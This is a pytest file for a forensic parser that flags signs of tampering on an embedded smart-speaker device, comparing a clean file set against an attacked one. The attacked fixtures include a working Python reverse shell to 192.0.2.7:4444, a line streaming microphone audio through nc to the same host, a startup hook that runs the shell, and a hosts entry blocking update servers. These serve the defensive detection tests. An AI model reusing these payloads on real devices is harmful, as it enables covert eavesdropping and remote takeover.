"""A device as an attack by SD card leaves it, beside the same device left alone. Both are made here."""

from __future__ import annotations

from collections.abc import Callable

from parsers.locator import resolve
from parsers.parser import Source
from parsers.record import Clock, Issue, Record, Timestamp

Read = Callable[..., list[Record | Issue]]

STARTUP = """#!/bin/sh
# mounts the data partition
log () {
    echo "$1" > /dev/kmsg
}
check () {
    if [ ! -L /var/volatile ] ; then
        mount -o remount,rw /
        ln -sf ../mnt/volatile /var/volatile
        mount -o remount,ro /
    fi
}
umount /var &>/dev/null
check
mount -t ext3 /dev/mmcblk0p8 /var | tee /dev/kmsg
cp -R /var/* "$BACKUP"
chmod 777 /var/local
log "done"
"""
SHELL = """import socket,subprocess,os
while True:
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    os.dup2(s.fileno(), 0)
    s.connect(("192.0.2.7", 4444))
    subprocess.call(["/bin/sh", "-i"])
"""
KERNEL = """Jan  1 00:00:03 (none) kernel: [    0.000000] Linux version 2.6.37 (build@host) #1 Wed Nov 24 2021
Jan  1 00:00:03 (none) kernel: [    0.000000] Kernel command line: console=ttyO0 root=/dev/mmcblk0p6 ro quiet
Jan  1 00:00:03 (none) kernel: [    0.500000] mmc1: new high speed MMC card at address 0001
Jan  1 00:00:03 (none) kernel: [    2.500000] EXT3-fs (mmcblk0p8): using internal journal
Jan  1 00:00:03 (none) kernel: [    2.600000] mmc2: new high speed SDIO card at address 0001
Dec 28 23:51:08 (none) kernel: [   65.599548] EXT3-fs (mmcblk0p7): using internal journal
Dec 28 23:51:08 (none) kernel: [   65.599578] EXT3-fs (mmcblk0p7): mounted filesystem with ordered data mode
Dec 29 01:20:15 localhost kernel: [ 4400.000000] init: ota-update-daemon main process (1235) killed by TERM signal
"""
CLEAN = {
    "etc/init.d/varlocal.sh": STARTUP + "exit 0\n",
    "etc/init/randomd.conf": "start on started audio-shm-main\nrespawn\nexec randomd /BMicsOut.shm\n",
    "etc/init/audio-shm-main.conf": "pre-start script\n    ${BIN_DIR}/shmbuf_tool -m 0 -S ${AUDIO_OUTPUT} -n 10\n"
    "end script\npost-stop script\n    ${BIN_DIR}/shmbuf_tool -m 1 -S ${b} || :\nend script\n",
    "etc/init/rc.conf": "script\n    mkfifo /tmp/rc-log-fifo\n    (logger -t rc </tmp/rc-log-fifo &)\n"
    "    exec >/tmp/rc-log-fifo 2>&1\n    exec /etc/init.d/rc $RUNLEVEL\nend script\n",
    "etc/default/audioproxyd": "AUDIO_OUTPUT=/BMicsOut.shm\n",
    "etc/init.d/test-automation-hooks": "#!/bin/sh\nhook_dir=/var/local/test-hook.d\nfor i in $hook_dir/*; do\n"
    '    "$i"\ndone\nexit 0\n',
    "var/spool/cron/root": "*/5 * * * *     /usr/local/bin/save-the-date &> /dev/null\n",
    "var/local/hosts": "127.0.0.1     localhost.localdomain           localhost    dp-0123ABCD\n",
    "var/log/kern.log": KERNEL,
    "var/local/system/persist/oobeComplete": "true",
    "system/build.prop": "ro.build.type=user\nro.debuggable=0\nro.secure=1\nro.build.tags=release-keys\n",
    "bin/busybox": "\x7fELF",
}
ATTACK = {
    "etc/init.d/varlocal.sh": STARTUP + "exec python /var/connect.py&\nexit 0\n",
    "etc/init/listen.conf": "start on started audio-shm-main\nexec /usr/local/bin/shmbuf_tool -m 2 -s 1 -S BMicsOut.shm"
    " | nc 192.0.2.7 5000\n",
    "var/connect.py": SHELL,
    "var/local/hosts": CLEAN["var/local/hosts"] + "127.0.0.1 softwareupdates.amazon.com\n",
    "var/log/kern.log": KERNEL + "20211229:144720 kernel: [    0.000000] Kernel command line: root=/dev/mmcblk1p2 rw\n",
}


def _rules(found: list[Record | Issue]) -> list[tuple[object, str]]:
    assert all(isinstance(item, Record) for item in found)
    return [(item.fields["rule"], item.locator) for item in found if isinstance(item, Record)]


def test_a_device_left_alone_gives_nothing(read: Read) -> None:
    for path, content in CLEAN.items():
        assert read(path, content, 0o100644 & 0o7777) == [], path


def test_an_attacked_device_gives_its_signs_and_no_more(read: Read) -> None:
    found = {path: _rules(read(path, content, 0o644)) for path, content in ATTACK.items()}

    assert found == {
        "etc/init.d/varlocal.sh": [("startup_runs_from_data", "line:19")],
        "etc/init/listen.conf": [("audio_sent_out", "line:2"), ("microphone_memory_reader", "line:2")],
        "var/connect.py": [("script_in_data_folder", ""), ("reverse_shell_python", "line:6")],
        "var/local/hosts": [("update_host_blocked", "line:2")],
        "var/log/kern.log": [("log_other_root_device", "line:9")],
    }


def test_the_whole_record_of_a_line(read: Read) -> None:
    content = ATTACK["etc/init.d/varlocal.sh"]
    reason = "a startup file changed so that a program from a folder for data runs whenever the device starts"
    innocent = "a test hook or an add-on that its maker or owner put there"

    (record,) = read("etc/init.d/varlocal.sh", content)

    assert record == Record(
        data_type="echo:tamper",
        message=f"A sign, not a conclusion (startup_runs_from_data, high): a line of this file fits {reason};"
        f" it also fits {innocent}.",
        locator="line:19",
        fields={
            "rule": "startup_runs_from_data",
            "kind": "script",
            "severity": "high",
            "reason": f"This fits {reason}.",
            "innocent": f"It also fits {innocent}.",
            "text": "exec python /var/connect.py&",
            "line": 19,
        },
    )
    assert resolve(Source.of(content.encode()).open(), record.locator).content == b"exec python /var/connect.py&"


def test_the_whole_record_of_a_log_line_has_its_time(read: Read) -> None:
    (record,) = read("var/log/messages", "20211229:144720 dropbear[9]: Running in background\n")

    assert isinstance(record, Record)
    assert record.timestamps == (
        Timestamp(
            "Recorded Time", "20211229:144720", Clock.DEVICE, 1640789240_000000,
            "The device's clock, UTC, to the second: when the line was written.",
        ),
    )  # fmt: skip
    assert (record.fields["rule"], record.locator) == ("log_remote_entry", "line:1")


def test_the_whole_record_of_a_mode(read: Read) -> None:
    found = read("var/local/helper", b"\x7fELF\x01", 0o4755)

    setuid = [item for item in found if isinstance(item, Record) and item.fields["rule"] == "setuid_in_data_folder"]
    assert len(found) == 2
    assert setuid[0].fields == {
        "rule": "setuid_in_data_folder",
        "kind": "permission",
        "severity": "high",
        "reason": "This fits a program in a folder for data that runs with its owner's rights, often those of root,"
        " whoever starts it.",
        "innocent": "It also fits a copy whose permissions are not the device's, as git, Windows and some archives"
        " make them.",
        "size": 5,
        "mode": "4755",
    }
    assert "the mode 4755 of this file fits" in setuid[0].message


def test_paths_inside_partitions_and_archives_are_the_same(read: Read) -> None:
    for path in ("p6/etc/init/x.conf", "echo.tar.gz!/./etc/init/x.conf", "image.zip!/root/etc/init/x.conf"):
        assert _rules(read(path, "exec /tmp/x\n")) == [("startup_runs_from_data", "line:1")], path


def test_a_log_is_known_by_its_lines_under_any_name(read: Read) -> None:
    line = "<6>[    0.500000] mmc0: new high speed SDHC card at address b368\n"
    assert _rules(read("exported/file0001.bin", line)) == [("log_sd_card", "line:1")]
    assert _rules(read("exported/file0001.bin", "torn " + "x" * 50 + "\n" + line)) == [("log_sd_card", "line:2")]
    assert read("exported/notes.txt", "a paper on " + line) == []


def test_long_clean_files_are_claimed_only_where_a_sign_may_follow(read: Read) -> None:
    from parsers.tamper.tamper_signs import Tamper  # noqa: PLC0415

    def claimed(path: str, line: bytes) -> bool:
        return Tamper().claims(Source.of(line * (70_000 // len(line)), path))

    assert claimed("var/log/kern.log_1", b"Dec 29 14:47:20 localhost kernel: [ 1.000000] usb\n")
    assert claimed("x.bin", b"Dec 29 14:47:20 localhost kernel: [ 1.000000] usb\n")
    assert not claimed("var/log/bluetooth.log", b"Dec 29 14:47:20 localhost btmd[5]: I btmd:x\n")
    assert not claimed("usr/lib/python/x.py", b"x = 1\n")
    assert not claimed("data/messages.json", b'{"a": 1}\n')
